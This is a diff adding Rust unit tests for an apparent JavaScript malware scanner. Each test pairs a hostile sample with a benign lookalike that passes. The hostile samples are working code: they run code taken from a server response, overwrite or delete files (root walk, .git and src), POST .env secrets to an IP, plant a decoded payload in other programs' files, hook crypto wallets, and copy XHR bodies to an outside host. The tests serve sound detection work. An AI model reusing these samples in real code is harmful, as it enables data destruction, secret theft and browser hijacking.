@@ -1318,3 +1318,215 @@ fn raw_capabilities_a_shell_runner_for_any_command_and_the_dns_resolver() {
     }
     assert!(raw("const https = require('node:https');\nmodule.exports = https;\n").is_empty());
 }
+
+#[test]
+fn named_network_handler_runs_the_answer() {
+    // The handler is written apart from the request and handed to it by name: what it
+    // is called with is the server's answer (here the body of an error response).
+    let src = r#"
+const got = require('axios');
+function onFailure(err) {
+  const text = err && err.response && err.response.data;
+  const run = Reflect.construct(Function, ['require', text]);
+  run(require);
+}
+got.post('https://telemetry.example.invalid/v1', {}).catch(onFailure);
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::DownloadExecute && d.contains("onFailure")),
+        "{f:?}"
+    );
+    // The same handler given to something that is not a request: its parameter is the
+    // caller's, not the network's.
+    let local = r#"
+const emitter = require('./bus');
+function onFailure(err) { const run = new Function(err.code); run(); }
+emitter.on('failure', onFailure);
+"#;
+    assert!(!has(local, K::DownloadExecute), "{:?}", facts(local));
+}
+
+#[test]
+fn recursive_walker_handed_the_root_overwrites_files() {
+    // The walk's start is an argument: the lister is a function, the root a constant.
+    let src = r#"
+const fs = require('fs');
+const path = require('path');
+function spoil(dir) {
+  let names = [];
+  try { names = fs.readdirSync(dir); } catch (e) { return; }
+  for (const n of names) {
+    const p = path.join(dir, n);
+    if (fs.statSync(p).isDirectory()) spoil(p);
+    else fs.writeFileSync(p, 'x');
+  }
+}
+setTimeout(() => spoil(Buffer.from('Lw==', 'base64').toString()), 10);
+"#;
+    assert!(has(src, K::Destruction), "{:?}", facts(src));
+    // The same walker over the package's own folder is a build step.
+    let own = src.replace(
+        "Buffer.from('Lw==', 'base64').toString()",
+        "path.join(__dirname, 'dist')",
+    );
+    assert!(!has(&own, K::Destruction), "{:?}", facts(&own));
+}
+
+#[test]
+fn deleting_the_projects_history_and_sources() {
+    let src = r#"
+const fs = require('fs');
+const path = require('path');
+const names = [[46, 103, 105, 116], [115, 114, 99]];
+(function () {
+  const base = process.cwd();
+  for (const n of names) fs.rmSync(path.join(base, String.fromCharCode(...n)), { recursive: true, force: true });
+})();
+"#;
+    assert!(has(src, K::Destruction), "{:?}", facts(src));
+    let plain = "const fs = require('fs');\nfs.rmSync(require('path').join(process.cwd(), '.git'), { recursive: true });";
+    assert!(has(plain, K::Destruction), "{:?}", facts(plain));
+    // Cleaning the build output of the project is what build tools do.
+    let clean = "const fs = require('fs');\nfs.rmSync(require('path').join(process.cwd(), 'dist'), { recursive: true });";
+    assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
+}
+
+#[test]
+fn endless_loop_when_loaded() {
+    let src = r#"
+module.exports = function banner() {
+  console.log('!!!');
+  for (let n = 1; n < Infinity; n++) console.log('x'.repeat(n % 80));
+};
+module.exports();
+"#;
+    assert!(has(src, K::Destruction), "{:?}", facts(src));
+    assert!(has("while (true) { console.log('spin'); }", K::Destruction));
+    // Loops that always leave one way or another.
+    for quiet in [
+        "for (;;) { const c = next(); if (!c) break; use(c); }",
+        "function f() { while (true) { if (ready()) return 1; } }",
+        "async function f() { while (true) { await tick(); } }",
+        "function* ids() { let i = 0; while (true) yield i++; }",
+        "while (1) { try { step(); } catch (e) { throw e; } }",
+        "for (let i = 0; i < 10; i++) { work(i); }",
+        "while (true) { if (done()) process.exit(0); poll(); }",
+        // Compiled OCaml: the loop ends when what it calls raises.
+        "try { for (;;) step(next()); } catch (e) { if (e !== End) throw e; }",
+        "outer: for (;;) { for (;;) { if (peek()) continue outer; eat(); } }",
+    ] {
+        assert!(!has(quiet, K::Destruction), "{quiet}: {:?}", facts(quiet));
+    }
+}
+
+#[test]
+fn dotenv_files_found_by_pattern_are_sent() {
+    // The files are picked from a folder listing by a pattern, read, and posted to an
+    // address given as request options.
+    let src = r#"
+const fs = require('fs');
+const path = require('path');
+const http = require('http');
+(function () {
+  const bag = {};
+  const here = process.cwd();
+  for (const f of fs.readdirSync(here).filter((n) => /^\.env(\.\w+)?$/.test(n))) {
+    bag[f] = fs.readFileSync(path.join(here, f), 'utf8');
+  }
+  const req = http.request({ hostname: '203.0.113.7', port: 8443, path: '/c', method: 'POST' });
+  req.end(JSON.stringify(bag));
+})();
+"#;
+    let k = kinds(src);
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
+    assert!(k.contains(&K::SuspiciousDestination), "{:?}", facts(src));
+    // Loading the project's .env into the process is what config loaders do.
+    let loader = r#"
+const fs = require('fs');
+const text = fs.readFileSync(require('path').join(process.cwd(), '.env'), 'utf8');
+for (const line of text.split('\n')) { const [k, v] = line.split('='); process.env[k] = v; }
+"#;
+    assert!(kinds(loader).is_empty(), "{:?}", facts(loader));
+}
+
+#[test]
+fn decoded_code_planted_in_another_programs_file() {
+    use std::io::Write;
+    let payload = "const https = require('https');\nhttps.request('https://collect.example.invalid/t', { method: 'POST' }).end(String(Date.now()));\n";
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    z.write_all(payload.as_bytes())
+        .expect("writing to a Vec does not fail");
+    let blob = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        z.finish().expect("writing to a Vec does not fail"),
+    );
+    let src = format!(
+        "const fs = require('fs');\nconst zlib = require('zlib');\nconst body = zlib.inflateSync(Buffer.from('{blob}', 'base64')).toString();\nfor (const target of findApps()) fs.writeFileSync(target, body + '\\nmodule.exports = 1;');\n"
+    );
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::Persistence && d.contains("decoded code")),
+        "{f:?}"
+    );
+    // Unpacking a compressed asset of its own next to itself is what packages do.
+    let own = src.replace(
+        "for (const target of findApps()) fs.writeFileSync(target,",
+        "fs.writeFileSync(require('path').join(__dirname, 'core.js'),",
+    );
+    assert!(!has(&own, K::Persistence), "{:?}", facts(&own));
+}
+
+#[test]
+fn buffer_mapped_through_a_xor_key() {
+    // The module name is XOR-ed with a key byte by byte over a Buffer.
+    let src = r#"
+const key = 'Zq3';
+const un = (s) => Buffer.from(Buffer.from(s, 'base64').map((b, i) => b ^ key.charCodeAt(i % key.length))).toString();
+const proc = require(un('ORlaNhVsKgNcORRAKQ=='));
+proc.exec('id');
+"#;
+    let f = facts(src);
+    assert!(f.iter().any(|(k, _, _)| *k == K::ProcessSpawn), "{f:?}");
+    assert!(!f.iter().any(|(k, _, _)| *k == K::DynamicImport), "{f:?}");
+}
+
+#[test]
+fn wallet_provider_handed_to_a_wrapper_function() {
+    // The provider is the parameter of a function called where it is written.
+    let src = "window.ethereum && function (prov) { var orig = prov.request.bind(prov); prov.request = function (a) { return orig(a); }; }(window.ethereum);";
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    let arrow = "window.solana && ((s) => { const f = s.signTransaction.bind(s); s.signTransaction = async (t) => f(t); })(window.solana);";
+    assert!(has(arrow, K::BrowserHijack), "{:?}", facts(arrow));
+    // A wrapper handed something else assigns its own object's methods.
+    let own = "(function (api) { api.request = function (a) { return a; }; })(window.myClient);";
+    assert!(!has(own, K::BrowserHijack), "{:?}", facts(own));
+}
+
+#[test]
+fn hooked_request_bodies_copied_out() {
+    let src = r#"
+!function () {
+  var send = XMLHttpRequest.prototype.send;
+  XMLHttpRequest.prototype.send = function (payload) {
+    try { if (payload) (new Image).src = "https://stats.example.invalid/i?q=" + encodeURIComponent(String(payload)); } catch (e) {}
+    return send.apply(this, arguments);
+  };
+}();
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("copies what the page sends")),
+        "{f:?}"
+    );
+    // A wrapper that counts requests and reports its own numbers with a beacon.
+    let counter = r#"
+var n = 0, orig = window.fetch;
+window.fetch = function (input, init) { n++; return orig(input, init); };
+addEventListener('pagehide', function () { navigator.sendBeacon('/metrics', String(n)); });
+"#;
+    assert!(!has(counter, K::BrowserHijack), "{:?}", facts(counter));
+}
